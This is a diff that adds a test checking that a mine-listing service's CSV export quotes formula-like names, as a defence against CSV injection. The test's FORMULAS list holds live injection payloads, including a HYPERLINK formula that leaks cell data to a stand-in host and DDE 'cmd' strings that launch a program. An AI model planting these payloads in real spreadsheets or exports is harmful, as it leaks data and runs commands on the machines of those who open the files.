@@ -2,6 +2,8 @@
 publicity, removal with numbered exit notices, events from rights-api and restoration-api,
 change requests, voluntary exit."""
 
+import csv as csv_module
+import io
 import uuid
 from datetime import UTC, datetime, timedelta
 
@@ -449,3 +451,45 @@ async def test_a_new_case_during_relisting_publicity_defers_the_relisting(gm):
     assert detail["status"] == "rectifying" and detail["benefits_suspended"]
     assert "relisting_deferred" in [h["action"] for h in detail["history"]]
     assert await events(gm, "greenmine.benefits.restored") == []
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+async def test_the_list_csv_writes_formula_like_names_as_text(gm):
+    """CSV injection: a mine or holder name a spreadsheet would run is quoted (OWASP's rule)."""
+    by_change = "@SUM(1+1)*cmd|' /C calc'!A0"
+    for name in FORMULAS:
+        if name != by_change:
+            await listed_mine(gm, granted(mine_name=name, holder_name=name))
+    # the sixth through an approved change request of the listed information
+    mine, listing = await listed_mine(gm, granted(holder_name=by_change))
+    holder = enterprise(gm, mine.holder_id)
+    path = f"/listings/{listing['id']}/change-requests"
+    tabbed = {"changes": {"mine_name": "\t=1+1"}, "reason": "更名"}
+    assert (await gm.client.post(path, json=tabbed, headers=holder)).status_code == 422
+    request = await gm.client.post(
+        path, json={"changes": {"mine_name": by_change}, "reason": "更名"}, headers=holder
+    )
+    assert request.status_code == 201, request.text
+    decision = await gm.client.post(
+        f"/change-requests/{request.json()['id']}/decision",
+        json={"approve": True},
+        headers=admin(gm),
+    )
+    assert decision.status_code == 200, decision.text
+    export = await gm.client.get("/listings.csv")
+    assert export.status_code == 200
+    assert export.headers["content-disposition"] == 'attachment; filename="green-mines.csv"'
+    assert export.headers["x-content-type-options"] == "nosniff"
+    rows = list(csv_module.DictReader(io.StringIO(export.text.lstrip("\ufeff"), newline="")))
+    assert sorted(r["mine_name"] for r in rows) == sorted("'" + n for n in FORMULAS)
+    assert sorted(r["holder_name"] for r in rows) == sorted("'" + n for n in FORMULAS)
+    assert {r["status"] for r in rows} == {"listed"}
